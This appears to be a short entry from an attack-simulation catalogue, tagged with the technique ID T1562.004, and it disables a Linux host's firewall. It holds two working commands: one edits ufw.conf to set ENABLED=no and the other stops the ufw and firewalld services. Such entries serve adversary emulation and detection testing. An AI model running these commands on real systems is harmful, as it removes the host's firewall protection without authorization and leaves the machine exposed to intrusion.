# title: ufw is switched off in its file
# technique: T1562.004
# short: yes

sed -i 's/ENABLED=yes/ENABLED=no/' /etc/ufw/ufw.conf
systemctl stop ufw firewalld 2>/dev/null; true
